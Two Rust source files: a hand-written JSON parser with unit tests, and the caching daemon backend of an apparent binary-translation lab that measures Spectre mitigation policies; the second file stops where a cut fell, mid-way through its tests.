//! (including `\uXXXX` and surrogate pairs), numbers, booleans, `null` —
//! into a [`JsonValue`] tree. Object keys keep their textual order;
//! duplicate keys resolve to the first occurrence, which is enough for
//! the formats this repo speaks.

use std::fmt;

/// A parsed JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum JsonValue {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// Any JSON number (always carried as `f64`).
    Number(f64),
    /// A string literal, unescaped.
    String(String),
    /// An array.
    Array(Vec<JsonValue>),
    /// An object, in textual key order.
    Object(Vec<(String, JsonValue)>),
}

impl JsonValue {
    /// Parses one complete JSON document (trailing whitespace allowed,
    /// trailing garbage rejected).
    ///
    /// # Errors
    ///
    /// Returns a human-readable message with the byte offset of the first
    /// violation.
    pub fn parse(text: &str) -> Result<JsonValue, String> {
        let mut parser = Parser { bytes: text.as_bytes(), pos: 0 };
        parser.skip_whitespace();
        let value = parser.parse_value()?;
        parser.skip_whitespace();
        if parser.pos != parser.bytes.len() {
            return Err(format!("trailing characters at byte {}", parser.pos));
        }
        Ok(value)
    }

    /// Member lookup on an object (first occurrence wins).
    pub fn get(&self, key: &str) -> Option<&JsonValue> {
        match self {
            JsonValue::Object(members) => members.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The string payload, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            JsonValue::String(s) => Some(s),
            _ => None,
        }
    }

    /// The number as a `u64`, if this is a non-negative integral number
    /// exactly representable in the parser's `f64` carrier (below 2^53).
    /// Larger integers may already have been rounded during parsing, so
    /// they are rejected here rather than returned silently corrupted.
    pub fn as_u64(&self) -> Option<u64> {
        const F64_EXACT: f64 = 9_007_199_254_740_992.0; // 2^53
        match self {
            JsonValue::Number(n) if *n >= 0.0 && n.fract() == 0.0 && *n < F64_EXACT => {
                Some(*n as u64)
            }
            _ => None,
        }
    }

    /// The number payload, if this is a number.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            JsonValue::Number(n) => Some(*n),
            _ => None,
        }
    }

    /// The boolean payload, if this is a boolean.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            JsonValue::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// The element list, if this is an array.
    pub fn as_array(&self) -> Option<&[JsonValue]> {
        match self {
            JsonValue::Array(items) => Some(items),
            _ => None,
        }
    }
}

impl fmt::Display for JsonValue {
    /// Compact single-line re-serialisation (used in error messages and
    /// tests; the protocol frames are built by hand for byte stability).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            JsonValue::Null => write!(f, "null"),
            JsonValue::Bool(b) => write!(f, "{b}"),
            JsonValue::Number(n) => {
                if n.fract() == 0.0 && n.abs() < 9e15 {
                    write!(f, "{}", *n as i64)
                } else {
                    write!(f, "{n}")
                }
            }
            JsonValue::String(s) => write!(f, "\"{}\"", escape(s)),
            JsonValue::Array(items) => {
                write!(f, "[")?;
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        write!(f, ", ")?;
                    }
                    write!(f, "{item}")?;
                }
                write!(f, "]")
            }
            JsonValue::Object(members) => {
                write!(f, "{{")?;
                for (i, (key, value)) in members.iter().enumerate() {
                    if i > 0 {
                        write!(f, ", ")?;
                    }
                    write!(f, "\"{}\": {value}", escape(key))?;
                }
                write!(f, "}}")
            }
        }
    }
}

/// Escapes `s` for use inside a JSON string literal (quotes, backslashes,
/// control characters; everything else passes through as UTF-8).
pub fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

struct Parser<'t> {
    bytes: &'t [u8],
    pos: usize,
}

impl Parser<'_> {
    fn skip_whitespace(&mut self) {
        while let Some(b' ' | b'\t' | b'\n' | b'\r') = self.bytes.get(self.pos) {
            self.pos += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, byte: u8) -> Result<(), String> {
        if self.peek() == Some(byte) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected `{}` at byte {}", byte as char, self.pos))
        }
    }

    fn parse_value(&mut self) -> Result<JsonValue, String> {
        match self.peek() {
            Some(b'{') => self.parse_object(),
            Some(b'[') => self.parse_array(),
            Some(b'"') => Ok(JsonValue::String(self.parse_string()?)),
            Some(b't') => self.parse_keyword("true", JsonValue::Bool(true)),
            Some(b'f') => self.parse_keyword("false", JsonValue::Bool(false)),
            Some(b'n') => self.parse_keyword("null", JsonValue::Null),
            Some(b'-' | b'0'..=b'9') => self.parse_number(),
            Some(other) => Err(format!("unexpected `{}` at byte {}", other as char, self.pos)),
            None => Err("unexpected end of input".to_string()),
        }
    }

    fn parse_keyword(&mut self, keyword: &str, value: JsonValue) -> Result<JsonValue, String> {
        if self.bytes[self.pos..].starts_with(keyword.as_bytes()) {
            self.pos += keyword.len();
            Ok(value)
        } else {
            Err(format!("invalid literal at byte {}", self.pos))
        }
    }

    fn parse_object(&mut self) -> Result<JsonValue, String> {
        self.expect(b'{')?;
        let mut members = Vec::new();
        self.skip_whitespace();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(JsonValue::Object(members));
        }
        loop {
            self.skip_whitespace();
            let key = self.parse_string()?;
            self.skip_whitespace();
            self.expect(b':')?;
            self.skip_whitespace();
            let value = self.parse_value()?;
            members.push((key, value));
            self.skip_whitespace();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(JsonValue::Object(members));
                }
                _ => return Err(format!("expected `,` or `}}` at byte {}", self.pos)),
            }
        }
    }

    fn parse_array(&mut self) -> Result<JsonValue, String> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_whitespace();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(JsonValue::Array(items));
        }
        loop {
            self.skip_whitespace();
            items.push(self.parse_value()?);
            self.skip_whitespace();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(JsonValue::Array(items));
                }
                _ => return Err(format!("expected `,` or `]` at byte {}", self.pos)),
            }
        }
    }

    fn parse_string(&mut self) -> Result<String, String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err("unterminated string".to_string()),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            self.pos += 1;
                            let unit = self.parse_hex4()?;
                            let c = if (0xd800..0xdc00).contains(&unit) {
                                // High surrogate: a `\uXXXX` low surrogate
                                // must follow.
                                if self.peek() != Some(b'\\') {
                                    return Err("lone high surrogate".to_string());
                                }
                                self.pos += 1;
                                if self.peek() != Some(b'u') {
                                    return Err("lone high surrogate".to_string());
                                }
                                self.pos += 1;
                                let low = self.parse_hex4()?;
                                if !(0xdc00..0xe000).contains(&low) {
                                    return Err("invalid low surrogate".to_string());
                                }
                                let scalar = 0x10000 + ((unit - 0xd800) << 10) + (low - 0xdc00);
                                char::from_u32(scalar).ok_or("invalid surrogate pair")?
                            } else if (0xdc00..0xe000).contains(&unit) {
                                return Err("lone low surrogate".to_string());
                            } else {
                                char::from_u32(unit).ok_or("invalid \\u escape")?
                            };
                            out.push(c);
                            continue; // parse_hex4 already advanced
                        }
                        _ => return Err(format!("invalid escape at byte {}", self.pos)),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume one UTF-8 scalar (the input is a &str, so the
                    // byte stream is valid UTF-8 by construction).
                    let rest = &self.bytes[self.pos..];
                    let text = std::str::from_utf8(rest).map_err(|e| e.to_string())?;
                    let c = text.chars().next().expect("peeked non-empty");
                    if (c as u32) < 0x20 {
                        return Err(format!("raw control character at byte {}", self.pos));
                    }
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn parse_hex4(&mut self) -> Result<u32, String> {
        if self.pos + 4 > self.bytes.len() {
            return Err("truncated \\u escape".to_string());
        }
        let hex =
            std::str::from_utf8(&self.bytes[self.pos..self.pos + 4]).map_err(|e| e.to_string())?;
        let unit =
            u32::from_str_radix(hex, 16).map_err(|_| format!("invalid \\u escape `{hex}`"))?;
        self.pos += 4;
        Ok(unit)
    }

    fn parse_number(&mut self) -> Result<JsonValue, String> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while let Some(b'0'..=b'9') = self.peek() {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while let Some(b'0'..=b'9') = self.peek() {
                self.pos += 1;
            }
        }
        if let Some(b'e' | b'E') = self.peek() {
            self.pos += 1;
            if let Some(b'+' | b'-') = self.peek() {
                self.pos += 1;
            }
            while let Some(b'0'..=b'9') = self.peek() {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).map_err(|e| e.to_string())?;
        text.parse::<f64>()
            .map(JsonValue::Number)
            .map_err(|_| format!("invalid number `{text}` at byte {start}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_the_full_grammar() {
        let value = JsonValue::parse(
            r#"{"op": "sweep", "threads": 4, "flags": [true, false, null], "pi": 3.5}"#,
        )
        .unwrap();
        assert_eq!(value.get("op").and_then(JsonValue::as_str), Some("sweep"));
        assert_eq!(value.get("threads").and_then(JsonValue::as_u64), Some(4));
        assert_eq!(value.get("pi").and_then(JsonValue::as_f64), Some(3.5));
        let JsonValue::Array(flags) = value.get("flags").unwrap() else {
            panic!("flags must be an array");
        };
        assert_eq!(flags.len(), 3);
        assert_eq!(flags[0].as_bool(), Some(true));
        assert_eq!(flags[2], JsonValue::Null);
        let items = value.get("flags").and_then(JsonValue::as_array).unwrap();
        assert_eq!(items.len(), 3, "as_array sees the same elements");
        assert_eq!(value.get("op").and_then(JsonValue::as_array), None);
    }

    #[test]
    fn string_escapes_round_trip() {
        for original in ["plain", "a\"b\\c", "line\nbreak\ttab", "\u{1}\u{7f}", "smörgås 😀"] {
            let doc = format!("\"{}\"", escape(original));
            let parsed = JsonValue::parse(&doc).unwrap();
            assert_eq!(parsed.as_str(), Some(original), "round-trip of {original:?}");
        }
    }

    #[test]
    fn unicode_escapes_and_surrogate_pairs_decode() {
        assert_eq!(JsonValue::parse(r#""Aé""#).unwrap().as_str(), Some("Aé"));
        assert_eq!(JsonValue::parse(r#""😀""#).unwrap().as_str(), Some("😀"));
        assert!(JsonValue::parse(r#""\ud83d""#).is_err(), "lone high surrogate");
        assert!(JsonValue::parse(r#""\ude00""#).is_err(), "lone low surrogate");
    }

    #[test]
    fn rejects_malformed_documents() {
        for bad in ["", "{", "{\"a\" 1}", "[1, ]x", "nul", "\"unterminated", "{\"a\": 1} trailing"]
        {
            assert!(JsonValue::parse(bad).is_err(), "{bad:?} must be rejected");
        }
    }

    #[test]
    fn numbers_convert_conservatively() {
        assert_eq!(JsonValue::parse("42").unwrap().as_u64(), Some(42));
        assert_eq!(JsonValue::parse("-1").unwrap().as_u64(), None);
        assert_eq!(JsonValue::parse("1.5").unwrap().as_u64(), None);
        assert_eq!(JsonValue::parse("1e3").unwrap().as_u64(), Some(1000));
        // 2^53 - 1 is the last exactly-representable integer; 2^53 + 1
        // rounds to 2^53 at parse time, so anything at or past 2^53 is
        // rejected instead of returned corrupted.
        assert_eq!(JsonValue::parse("9007199254740991").unwrap().as_u64(), Some(9007199254740991));
        assert_eq!(JsonValue::parse("9007199254740992").unwrap().as_u64(), None);
        assert_eq!(JsonValue::parse("9007199254740993").unwrap().as_u64(), None);
    }

    #[test]
    fn display_reserialises_compactly() {
        let value = JsonValue::parse(r#"{ "a" : [ 1 , "x" ] , "b" : true }"#).unwrap();
        assert_eq!(value.to_string(), r#"{"a": [1, "x"], "b": true}"#);
    }
}
