//! The lab's [`LabBackend`] implementation: what `lab serve` actually runs.
//!
//! One [`LabDaemon`] owns the three process-wide, content-addressed layers
//! every request amortizes:
//!
//! * a single shared [`TranslationService`] — every session of every
//!   request resolves its compiles through one memo, so a client fleet
//!   pays each distinct translation once per daemon lifetime, not once
//!   per request;
//! * a single content-addressed [`RunMemo`] — whole run summaries keyed by
//!   `(program fingerprint, platform-config fingerprint)`, so a repeated
//!   identical scenario skips the simulation entirely;
//! * a single [`ProgramStore`] — the daemon's program namespace. Every
//!   analyzable registry program is registered at construction and seeded
//!   lazily; `upload` requests intern ad-hoc programs under their content
//!   fingerprint (identical submissions deduplicate), and the `program`
//!   members of `run`/`analyze` requests resolve through the
//!   [`ProgramRef`] grammar (`registry:<name>`, bare names, `fp:<hex>`).
//!
//! Responses reuse the lab's byte-stable emitters verbatim: the body of a
//! daemon answer for a *cold* cache is byte-identical — including the
//! `stats` block — to what the `lab` CLI prints locally, and stays
//! byte-identical in all cycle data once the caches are warm (only the
//! warmth-dependent counters in `stats` shrink; [`strip_stats`] cuts the
//! report at that block for comparisons). The same contract extends to
//! ad-hoc programs: an uploaded program runs and analyzes byte-identically
//! to the equal program built in-process.

use crate::analyze::{analyze_built, resolve_program};
use crate::exec::{run_sweep_obs, ExecOptions};
use crate::profile::profile_built;
use crate::registry::Registry;
use crate::scenario::{PlatformOverrides, PlatformVariant, ProgramSpec, Scenario, ScenarioKind};
use dbt_obs::{EventLog, LogLevel, MetricsRegistry};
use dbt_persist::{PersistEvent, PersistStats, PersistStore};
use dbt_platform::{
    ProgramRef, ProgramStore, RunMemo, TranslationService, DEFAULT_MEMO_CAPACITY,
    DEFAULT_STORE_CAPACITY,
};
use dbt_riscv::Program;
use dbt_serve::{LabBackend, ProgramSource, RunKnobs};
use dbt_workloads::WorkloadSize;
use ghostbusters::MitigationPolicy;
use std::sync::Arc;

/// Cuts a lab report JSON at its `stats` block.
///
/// Cycle counts, slowdowns and recovery rates are pure functions of the
/// scenario; the executor counters (`simulations`, translation hits and
/// misses) also depend on how warm the daemon's caches were when the
/// request arrived. Comparisons across cache states therefore strip the
/// `stats` block — exactly like the CI sweep-determinism check — and
/// require byte-identity on everything before it.
pub fn strip_stats(report_json: &str) -> String {
    match report_json.find("  \"stats\": {") {
        Some(index) => report_json[..index].to_string(),
        None => report_json.to_string(),
    }
}

/// The daemon state behind `lab serve`.
#[derive(Debug)]
pub struct LabDaemon {
    registry: Registry,
    default_threads: usize,
    service: Arc<TranslationService>,
    memo: Arc<RunMemo>,
    store: Arc<ProgramStore>,
    /// The daemon's own metric registry: translation phase histograms,
    /// the executor's simulate span, and — mirrored at scrape time — the
    /// cache/service counters `stats_json` reports. Per daemon, not
    /// process-global, so concurrent daemons (and tests) never bleed into
    /// each other's expositions.
    obs: Arc<MetricsRegistry>,
    /// The durable cache tier beneath the three layers above, present only
    /// when the daemon was built over a cache directory (`--cache-dir`).
    /// `None` keeps every answer and counter byte-identical to a daemon
    /// built before the tier existed.
    persist: Option<Arc<PersistStore>>,
    /// The daemon's own event log, owned only alongside `persist` (cache
    /// lifecycle events land here); the server adopts it through
    /// [`LabBackend::event_log`] so persistence and server lifecycle
    /// events interleave in one `logs` stream.
    events: Option<Arc<EventLog>>,
}

impl LabDaemon {
    /// A daemon over the standard registry at `size`, with auto-sized
    /// sweep executors (one thread per CPU).
    pub fn new(size: WorkloadSize) -> LabDaemon {
        LabDaemon::with_threads(size, 0)
    }

    /// A daemon whose sweep executors default to `default_threads` worker
    /// threads (`0` = one per CPU); a request's `threads` member overrides
    /// it per sweep.
    pub fn with_threads(size: WorkloadSize, default_threads: usize) -> LabDaemon {
        LabDaemon::with_cache_dir(size, default_threads, None)
            .expect("a daemon without a cache dir cannot fail to construct")
    }

    /// [`LabDaemon::with_threads`] plus an optional durable cache tier
    /// rooted at `cache_dir`. When present, the translation service's
    /// analysis verdicts, the run memo's summaries and the program
    /// store's uploaded images all read through to (and write behind
    /// into) the directory, uploaded programs are re-seeded immediately,
    /// and cache lifecycle events (incompatible-cache reset, reseeding,
    /// quarantines, GC) land in the daemon's own event log. `None` is
    /// exactly [`LabDaemon::with_threads`].
    ///
    /// # Errors
    ///
    /// Fails only when `cache_dir` names a directory that cannot be
    /// created or written. Corrupt or incompatible *contents* of a
    /// writable directory are never an error — they are quarantined and
    /// recomputed.
    pub fn with_cache_dir(
        size: WorkloadSize,
        default_threads: usize,
        cache_dir: Option<&str>,
    ) -> Result<LabDaemon, String> {
        let obs = MetricsRegistry::new();
        let (service, memo, store, persist, events) = match cache_dir {
            None => (
                TranslationService::with_metrics(&obs),
                RunMemo::new(),
                ProgramStore::new(),
                None,
                None,
            ),
            Some(dir) => {
                let tier = PersistStore::open(dir)
                    .map_err(|e| format!("cannot open cache dir `{dir}`: {e}"))?;
                let events = Arc::new(EventLog::new());
                let log = Arc::clone(&events);
                tier.set_observer(move |event| match event {
                    PersistEvent::CorruptQuarantined { kind, key, reason } => log.log(
                        LogLevel::Warn,
                        "persist.cache",
                        "corrupt entry quarantined",
                        None,
                        &[("kind", kind), ("key", key), ("reason", reason)],
                    ),
                    PersistEvent::GcEvicted { entries, bytes } => log.log(
                        LogLevel::Info,
                        "persist.cache",
                        "gc evicted entries",
                        None,
                        &[("entries", &entries.to_string()), ("bytes", &bytes.to_string())],
                    ),
                });
                if tier.incompatible_reset() {
                    events.log(
                        LogLevel::Warn,
                        "persist.cache",
                        "incompatible cache quarantined, starting fresh",
                        None,
                        &[("root", &tier.root().display().to_string())],
                    );
                }
                (
                    TranslationService::with_metrics_and_persist(&obs, Arc::clone(&tier)),
                    RunMemo::with_persist(DEFAULT_MEMO_CAPACITY, Arc::clone(&tier)),
                    ProgramStore::with_persist(DEFAULT_STORE_CAPACITY, Arc::clone(&tier)),
                    Some(tier),
                    Some(events),
                )
            }
        };
        // Every analyzable program label becomes a lazily-seeded registry
        // entry of the store, so `registry:<name>` refs (and bare names)
        // resolve without building anything until first use.
        for label in analyzable_labels() {
            let spec = resolve_program(label, size).expect("registry labels resolve");
            store.register(label, move || spec.build());
        }
        // With registry names claimed, restore the previous daemon
        // lifetime's uploaded programs so `fp:` refs resolve immediately.
        if persist.is_some() {
            let reseeded = store.reseed_from_persist();
            if let Some(events) = &events {
                events.log(
                    LogLevel::Info,
                    "persist.cache",
                    "durable cache attached",
                    None,
                    &[("programs_reseeded", &reseeded.to_string())],
                );
            }
        }
        Ok(LabDaemon {
            registry: Registry::standard(size),
            default_threads,
            service,
            memo,
            store,
            obs,
            persist,
            events,
        })
    }

    /// The process-wide translation service all requests share.
    pub fn service(&self) -> &Arc<TranslationService> {
        &self.service
    }

    /// The content-addressed run-summary memo all requests share.
    pub fn memo(&self) -> &Arc<RunMemo> {
        &self.memo
    }

    /// The content-addressed program store all requests share.
    pub fn store(&self) -> &Arc<ProgramStore> {
        &self.store
    }

    /// The daemon's metric registry (what the `metrics` op renders).
    pub fn metrics_registry(&self) -> &Arc<MetricsRegistry> {
        &self.obs
    }

    /// The durable cache tier, when the daemon was built over one.
    pub fn persist(&self) -> Option<&Arc<PersistStore>> {
        self.persist.as_ref()
    }

    /// The `"persist"` member of the `stats` body: `{"enabled": false}`
    /// without a cache dir, the full [`PersistStats`] snapshot (plus the
    /// flag) with one.
    fn persist_stats_json(&self) -> String {
        match &self.persist {
            None => "{\"enabled\": false}".to_string(),
            // Splice the flag in front of the stats object's own members.
            Some(tier) => format!("{{\"enabled\": true, {}", &tier.stats().to_json()[1..]),
        }
    }

    fn exec_opts(&self, threads: usize) -> ExecOptions {
        ExecOptions {
            threads: if threads == 0 { self.default_threads } else { threads },
            verbose: false,
        }
    }

    /// Parses `text` as a program ref and resolves it through the store.
    /// Returns the report label alongside the program.
    fn resolve_ref(&self, text: &str) -> Result<(String, Arc<Program>), String> {
        let program_ref = ProgramRef::parse(text)?;
        let program = self.store.resolve(&program_ref)?;
        Ok((program_ref.label(), program))
    }
}

/// Parses a wire policy label into a [`MitigationPolicy`].
fn parse_policy(policy: &str) -> Result<MitigationPolicy, String> {
    MitigationPolicy::from_label(policy).ok_or_else(|| {
        format!(
            "unknown policy `{policy}` (expected one of: {})",
            MitigationPolicy::ALL.map(|p| p.label()).join(", ")
        )
    })
}

/// Maps wire-level [`RunKnobs`] onto the lab's [`PlatformOverrides`]
/// (cache geometry is not wire-settable).
fn knob_overrides(knobs: &RunKnobs) -> PlatformOverrides {
    PlatformOverrides {
        issue_width: knobs.issue_width.map(|w| w as usize),
        hot_threshold: knobs.hot_threshold,
        branch_speculation: knobs.branch_speculation,
        memory_speculation: knobs.memory_speculation,
        cache: None,
        mcb_capacity: knobs.mcb_capacity.map(|c| c as usize),
        rollback_penalty: knobs.rollback_penalty,
        max_blocks: knobs.max_blocks,
    }
}

/// The labels the daemon registers in its program store: the whole
/// analyzable namespace (suite kernels, `ptr-matmul`, both attacks).
fn analyzable_labels() -> impl Iterator<Item = &'static str> {
    dbt_workloads::SUITE_NAMES.iter().copied().chain(["ptr-matmul", "spectre-v1", "spectre-v4"])
}

impl LabBackend for LabDaemon {
    fn run_scenario(&self, scenario: &str) -> Result<String, String> {
        let found = self
            .registry
            .find_scenario(scenario)
            .ok_or_else(|| format!("unknown scenario `{scenario}` (see `lab list`)"))?;
        let report = run_sweep_obs(
            scenario,
            std::slice::from_ref(&found),
            ExecOptions { threads: 1, verbose: false },
            &self.service,
            Some(&self.memo),
            Some(&self.obs),
        );
        Ok(report.to_json())
    }

    fn sweep(&self, name: &str, threads: usize) -> Result<String, String> {
        let sweep = self.registry.find(name).ok_or_else(|| format!("unknown sweep `{name}`"))?;
        let report = run_sweep_obs(
            &sweep.name,
            &sweep.expand(),
            self.exec_opts(threads),
            &self.service,
            Some(&self.memo),
            Some(&self.obs),
        );
        Ok(report.to_json())
    }

    fn analyze(&self, program: &str) -> Result<String, String> {
        let (label, program) = self.resolve_ref(program)?;
        analyze_built(&label, &program).map(|report| report.to_json())
    }

    fn upload(&self, source: &ProgramSource) -> Result<String, String> {
        let program = match source {
            ProgramSource::Asm(text) => dbt_riscv::parse_asm(text).map_err(|e| e.to_string())?,
            ProgramSource::Image(text) => Program::from_image(text).map_err(|e| e.to_string())?,
        };
        let (fingerprint, dedup) = self.store.upload(program);
        Ok(format!(
            "{{\"fingerprint\": \"fp:{fingerprint:016x}\", \"dedup\": {dedup}, \
             \"programs\": {}}}",
            self.store.stats().programs
        ))
    }

    fn run_program(&self, program: &str, policy: &str, knobs: &RunKnobs) -> Result<String, String> {
        let policy = parse_policy(policy)?;
        let (label, program) = self.resolve_ref(program)?;
        let secret = knobs.secret.as_ref().map(|secret| secret.as_bytes().to_vec());
        let scenario = adhoc_scenario(&label, program, policy, knob_overrides(knobs), secret);
        let name = scenario.name.clone();
        let report = run_sweep_obs(
            &name,
            std::slice::from_ref(&scenario),
            ExecOptions { threads: 1, verbose: false },
            &self.service,
            Some(&self.memo),
            Some(&self.obs),
        );
        Ok(report.to_json())
    }

    fn profile(&self, program: &str, policy: &str) -> Result<String, String> {
        let policy = parse_policy(policy)?;
        let (label, program) = self.resolve_ref(program)?;
        // Profiles run on a fresh session *without* the daemon's shared
        // translation service: the report embeds translation counters, and
        // a shared memo would make them depend on daemon warmth — the
        // profile of a program must be byte-identical however often anyone
        // asked before.
        let output = profile_built(&label, &program, policy)?;
        Ok(output.report.to_json())
    }

    fn stats_json(&self) -> String {
        let memo = self.memo.stats();
        let service = self.service.stats();
        format!(
            "{{\"run_memo\": {}, \"translation\": {{\"hits\": {}, \"misses\": {}, \
             \"programs\": {}, \"evictions\": {}}}, \"store\": {}, \"persist\": {}}}",
            memo.to_json(),
            service.hits,
            service.misses,
            service.programs,
            service.evictions,
            self.store.stats().to_json(),
            self.persist_stats_json()
        )
    }

    fn metrics_text(&self) -> String {
        // Mirror the same snapshots `stats_json` reads into the registry at
        // scrape time, so the counters in the two views agree exactly for
        // any daemon state. The global registry rides along for families
        // that cannot reach a per-daemon registry (free-standing spans and
        // the feature-gated cache sampling counters); its family names are
        // disjoint from the daemon's, so the concatenation stays a valid
        // exposition.
        self.memo.stats().export(&self.obs);
        self.service.stats().export(&self.obs);
        self.store.stats().export(&self.obs);
        // The durable tier is std-only and cannot reach dbt-obs itself, so
        // the daemon mirrors its snapshot. Only when enabled: a daemon
        // without a cache dir scrapes byte-identically to one built before
        // the tier existed.
        if let Some(tier) = &self.persist {
            export_persist(&tier.stats(), &self.obs);
        }
        format!("{}{}", self.obs.render(), MetricsRegistry::global().render())
    }

    fn event_log(&self) -> Option<Arc<EventLog>> {
        self.events.clone()
    }
}

/// Mirrors a [`PersistStats`] snapshot into `registry` as the
/// `dbt_persist_*` families (the durable-cache analogue of the in-memory
/// layers' `export` methods, kept here because `dbt-persist` is
/// dependency-free).
pub fn export_persist(stats: &PersistStats, registry: &MetricsRegistry) {
    registry
        .counter("dbt_persist_hits_total", "Durable-cache entries read back and validated.")
        .set(stats.hits);
    registry
        .counter("dbt_persist_misses_total", "Durable-cache reads that found no valid entry.")
        .set(stats.misses);
    registry
        .counter("dbt_persist_writes_total", "Durable-cache entries published.")
        .set(stats.writes);
    registry
        .counter(
            "dbt_persist_corrupt_quarantined_total",
            "Durable-cache entries rejected by validation and quarantined.",
        )
        .set(stats.corrupt_quarantined);
    registry
        .counter(
            "dbt_persist_gc_evictions_total",
            "Durable-cache entries deleted by byte-budget GC.",
        )
        .set(stats.gc_evictions);
    registry
        .gauge("dbt_persist_entries", "Durable-cache entries currently on disk.")
        .set(stats.entries as i64);
    registry
        .gauge("dbt_persist_disk_bytes", "Bytes of durable-cache entries on disk.")
        .set(stats.disk_bytes as i64);
    registry
        .gauge("dbt_persist_quarantined", "Files currently quarantined under corrupt/.")
        .set(stats.quarantined as i64);
}

/// The one-scenario job an ad-hoc `run` request expands to: the resolved
/// program under `policy`, on the default platform when `overrides` is
/// empty (a `custom` platform variant otherwise). Without a secret the
/// run is measured as a perf row (cycles and slowdown against the
/// unprotected baseline); planting a `secret` turns it into an attack row
/// (recovery rate against the planted bytes). The scenario name follows
/// the registry convention with the reserved `adhoc` sweep prefix.
pub fn adhoc_scenario(
    label: &str,
    program: Arc<Program>,
    policy: MitigationPolicy,
    overrides: PlatformOverrides,
    secret: Option<Vec<u8>>,
) -> Scenario {
    let platform = if overrides == PlatformOverrides::default() {
        PlatformVariant::default_platform()
    } else {
        PlatformVariant::new("custom", overrides)
    };
    let kind = if secret.is_some() { ScenarioKind::Attack } else { ScenarioKind::Perf };
    Scenario {
        name: format!("adhoc/{label}/{}/{}", policy.label(), platform.name),
        program_label: label.to_string(),
        program: ProgramSpec::Stored { label: label.to_string(), program, secret },
        policy,
        platform,
        kind,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze_program;
    use crate::exec::run_sweep;

    #[test]
    fn cold_daemon_sweep_is_byte_identical_to_a_fresh_lab_sweep() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let cold = daemon.sweep("ptr-matmul", 0).unwrap();
        let registry = Registry::standard(WorkloadSize::Mini);
        let sweep = registry.find("ptr-matmul").unwrap();
        let fresh =
            run_sweep(&sweep.name, &sweep.expand(), ExecOptions { threads: 1, verbose: false });
        assert_eq!(cold, fresh.to_json(), "a cold daemon matches the CLI to the byte");
    }

    #[test]
    fn warm_daemon_sweeps_keep_cycle_data_identical() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let cold = daemon.sweep("ptr-matmul", 0).unwrap();
        let warm = daemon.sweep("ptr-matmul", 0).unwrap();
        assert_eq!(strip_stats(&cold), strip_stats(&warm));
        assert_ne!(cold, warm, "the stats block records the cache warmth");
        assert!(warm.contains("\"simulations\": 0"), "warm sweeps never simulate: {warm}");
        assert!(
            warm.contains("\"baseline_simulations\": 0"),
            "memo hits must not count as baseline simulations either: {warm}"
        );
        let memo = daemon.memo().stats();
        assert!(memo.hits > 0, "{memo:?}");
    }

    #[test]
    fn run_requests_share_the_memo_with_sweeps() {
        let daemon = LabDaemon::with_threads(WorkloadSize::Mini, 1);
        let first = daemon.run_scenario("ptr-matmul/gemm (flat)/fence/default").unwrap();
        let again = daemon.run_scenario("ptr-matmul/gemm (flat)/fence/default").unwrap();
        assert_eq!(strip_stats(&first), strip_stats(&again));
        let stats = daemon.memo().stats();
        assert_eq!(stats.misses, 2, "baseline + fence run, simulated once each");
        assert_eq!(stats.hits, 2, "the repeat answered both from the memo");
        // The sweep containing that scenario now partially hits too.
        let sweep = daemon.sweep("ptr-matmul", 0).unwrap();
        assert!(!sweep.is_empty());
        assert!(daemon.memo().stats().hits > stats.hits);
    }

    #[test]
    fn unknown_names_are_reported_not_panicked() {
        let daemon = LabDaemon::new(WorkloadSize::Mini);
        assert!(daemon.run_scenario("no/such/scenario").is_err());
        assert!(daemon.sweep("no-such-sweep", 0).is_err());
        assert!(daemon.analyze("no-such-program").is_err());
        assert!(daemon.analyze("fp:0000000000000000").is_err());
        assert!(daemon.run_program("gemm", "no-such-policy", &RunKnobs::default()).is_err());
        assert!(daemon.run_program("scheme:odd", "selective", &RunKnobs::default()).is_err());
        assert!(daemon.profile("no-such-program", "selective").is_err());
        assert!(daemon.profile("gemm", "no-such-policy").is_err());
    }

    #[test]
